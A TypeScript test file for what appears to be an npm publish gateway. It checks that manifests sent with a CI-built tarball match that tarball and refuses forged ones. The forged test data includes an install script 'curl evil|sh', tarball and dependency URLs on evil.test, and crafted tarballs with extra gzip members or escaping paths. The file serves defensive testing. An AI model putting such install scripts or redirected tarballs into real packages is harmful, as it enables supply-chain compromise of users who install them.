import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { test, type TestContext } from 'node:test'
import { tgzOf, type Packed } from '../archives/archives.fixture.ts'
import { npmHost } from '../gateway.fixture.ts'
import { errorOf, openNpm } from './npm.fixture.ts'

type Json = Record<string, unknown>

const name = '@octo/app'
const packed: Json = {
  ...{ name, version: '1.2.3', bin: './cli.js', repository: 'octo/app' },
  dependencies: { words: '^1.0.0', helper: 'octo/helper#v1' },
  optionalDependencies: { fast: '1.0.0' },
  scripts: { test: 'node --test', build: './node_modules/.bin/tsc' },
  bundledDependencies: true,
  ...{ engines: { node: '>=20' }, os: 'linux', _hidden: 1, exports: './index.js' },
}
/** As npm 11 sends it for that package.json. */
const sent: Json = {
  ...{ name, version: '1.2.3', _id: `${name}@1.2.3`, bin: { app: 'cli.js' } },
  repository: { type: 'git', url: 'git+https://github.com/octo/app.git' },
  dependencies: { words: '^1.0.0', helper: 'github:octo/helper#v1' },
  optionalDependencies: { fast: '1.0.0' },
  scripts: { test: 'node --test', build: 'tsc' },
  bundleDependencies: ['words', 'helper'],
  ...{
    engines: { node: '>=20' },
    os: 'linux',
    exports: './index.js',
    _npmVersion: '11.0.0',
    readme: '# app',
  },
}

function bodyOf(manifest: Json, file: Buffer): string {
  const { dist, version = '1.2.3' } = manifest
  const tarball = `http://${npmHost}/${name}/-/${name}-${String(version)}.tgz`
  return JSON.stringify({
    ...{ _id: name, name, 'dist-tags': { latest: version }, access: null },
    versions: { [String(version)]: { ...manifest, dist: { tarball, ...(dist as Json) } } },
    _attachments: {
      [`${name}-${String(version)}.tgz`]: { data: file.toString('base64'), length: file.length },
    },
  })
}

const manifestFile = (content: Json = packed): Packed => ({
  ...{ name: 'package/package.json', content: JSON.stringify(content) },
})
const file = tgzOf({ name: 'package/cli.js', content: '1' }, manifestFile())

/** What the registry answers a step that may publish only what the run made. */
async function publishing(t: TestContext, made: Buffer = file) {
  const digest = `sha256:${createHash('sha256').update(made).digest('hex')}`
  const npm = await openNpm(t, {
    grants: [{ grant: `npm:publish npm/${name}`, artifact: 'run' }],
    isOfRun: (digests) => digests.every((one) => one === digest),
  })
  const { upstream } = npm.registry
  const usual = upstream.handle
  upstream.handle = (request, response) =>
    request.method === 'PUT' ? void response.writeHead(201).end('{}') : usual(request, response)
  return (manifest: Json, sentFile = made) =>
    npm.ask('PUT', '/@octo%2fapp', bodyOf(manifest, sentFile), { 'content-type': 'application/json' })
}

test('`artifact: run`: the file that the run made passes with the document that npm makes of it', async (t) => {
  const put = await publishing(t)
  const answer = await put(sent)
  assert.equal(answer.status, 201, answer.body)
  const other = await (await publishing(t))(sent, tgzOf(manifestFile({ ...packed, version: '1.2.4' })))
  assert.match(errorOf(other), /no earlier step of this run/)
})

const without = (of: Json, key: string): Json => ({ ...of, [key]: undefined })

const forged: readonly (readonly [what: string, manifest: Json, why: RegExp])[] = [
  ['another dependency', { ...sent, dependencies: { words: '^1.0.0', evil: '*' } }, /says dependencies/],
  ['a dependency less', { ...sent, dependencies: { words: '^1.0.0' } }, /says dependencies/],
  ['another range', { ...sent, dependencies: { words: '*', helper: 'octo/helper#v1' } }, /says dependencies/],
  [
    'another commit',
    { ...sent, dependencies: { words: '^1.0.0', helper: 'octo/helper#v2' } },
    /says dependencies/,
  ],
  [
    'another host',
    { ...sent, dependencies: { words: '^1.0.0', helper: 'git+https://github.org/octo/helper#v1' } },
    /says dependencies/,
  ],
  [
    'an optional one that is twice',
    { ...sent, dependencies: { ...(sent['dependencies'] as Json), fast: '2.0.0' } },
    /says dependencies/,
  ],
  [
    'an optional one',
    { ...sent, optionalDependencies: { x: 'https://evil.test/x.tgz' } },
    /says optionalDependencies/,
  ],
  ['a peer', { ...sent, peerDependencies: { evil: '*' } }, /says peerDependencies/],
  [
    'a needed peer',
    { ...sent, peerDependenciesMeta: { x: { optional: true } } },
    /says peerDependenciesMeta/,
  ],
  ['no bundled ones', without(sent, 'bundleDependencies'), /says bundleDependencies/],
  ['both spellings', { ...sent, bundledDependencies: ['evil'] }, /which differ/],
  [
    'a script',
    { ...sent, scripts: { ...(sent['scripts'] as Json), install: 'curl evil|sh' } },
    /says scripts/,
  ],
  ['a note of scripts', { ...sent, hasInstallScript: true }, /says hasInstallScript/],
  ['a note of a shrinkwrap', { ...sent, _hasShrinkwrap: true }, /says _hasShrinkwrap/],
  ['a gypfile', { ...sent, gypfile: true }, /says gypfile/],
  ['another command', { ...sent, bin: { ls: 'cli.js' } }, /says bin/],
  ['another place of a command', { ...sent, bin: { app: 'other.js' } }, /says bin/],
  ['no engines', without(sent, 'engines'), /says engines/],
  ['another system', { ...sent, os: ['win32'] }, /says os/],
  ['a processor', { ...sent, cpu: ['x64'] }, /says cpu/],
  ['a libc', { ...sent, libc: ['musl'] }, /says libc/],
  [
    'a member of other clients',
    { ...sent, dependenciesMeta: { x: { built: true } } },
    /says dependenciesMeta/,
  ],
  ['other exports', { ...sent, exports: './evil.js' }, /says exports/],
  ['another id', { ...sent, _id: `${name}@9.9.9` }, /says _id/],
  ['another version', { ...sent, version: '9.9.9', _id: `${name}@9.9.9` }, /says version: "9\.9\.9"/],
  [
    'a file elsewhere',
    { ...sent, dist: { tarball: 'https://evil.test/x.tgz' } },
    /dist\.tarball is not where/,
  ],
  [
    'a file of the same name elsewhere',
    { ...sent, dist: { tarball: `https://evil.test/${name}/-/app-1.2.3.tgz` } },
    /dist\.tarball is not/,
  ],
  [
    'a file at another port',
    { ...sent, dist: { tarball: `http://${npmHost}:4443/${name}/-/app-1.2.3.tgz` } },
    /dist\.tarball is not/,
  ],
  [
    'a file of another registry of its host',
    { ...sent, dist: { tarball: `http://${npmHost}/evil/${name}/-/app-1.2.3.tgz` } },
    /dist\.tarball is not/,
  ],
  [
    'signatures',
    { ...sent, dist: { signatures: [{ keyid: 'x', sig: 'y' }] } },
    /dist\.signatures, which is not for/,
  ],
  [
    'attestations',
    { ...sent, dist: { attestations: { url: 'https://evil.test' } } },
    /dist\.attestations, which/,
  ],
]
test('`artifact: run`: the file that the run made, with a document that says something else, is refused', async (t) => {
  const put = await publishing(t)
  for (const [what, manifest, why] of forged) {
    const answer = await put(manifest)
    assert.equal(answer.status, 403, what)
    assert.match(errorOf(answer), why, what)
  }
})

test('a file that npm may read otherwise is refused, though the run made it', async (t) => {
  const evil = manifestFile({ ...packed, dependencies: { evil: '*' } })
  for (const [made, why] of [
    [tgzOf(evil, manifestFile()), /some readers take for/],
    [Buffer.concat([file, tgzOf(evil)]), /behind its first gzip member/],
    [tgzOf({ name: 'package/package.json', content: '[]' }), /no JSON object/],
    [
      tgzOf(manifestFile(), { name: 'other/binding.gyp' }),
      /"other\/binding\.gyp", which is not in "package\/"/,
    ],
    [tgzOf(manifestFile(), { name: 'package/C:binding.gyp' }), /readers do not agree/],
    [Buffer.from('the packed package'), /its file is not read: it is no gzip/],
  ] as const)
    assert.match(errorOf(await (await publishing(t, made))(sent)), why)
})

test('what npm adds for a *.gyp, for directories.bin and for a server.js is taken', async (t) => {
  const own = { name, version: '1.2.3', directories: { bin: './tools' } }
  const made = tgzOf(
    manifestFile(own),
    ...['package/binding.gyp', 'package/server.js', 'package/tools/a.js'].map((one) => ({ name: one })),
  )
  const put = await publishing(t, made)
  const scripts = { install: 'node-gyp rebuild', start: 'node server.js' }
  const bin = { 'a.js': 'tools/a.js' }
  const answer = await put({ ...own, scripts, gypfile: true, hasInstallScript: true, bin })
  assert.equal(answer.status, 201, answer.body)
  const refused = [
    { ...own, scripts, bin: { ls: 'tools/a.js' } },
    { ...own, scripts, bin: { 'b.js': 'tools/b.js' } },
  ]
  for (const one of refused) assert.match(errorOf(await put(one)), /says bin/)
})
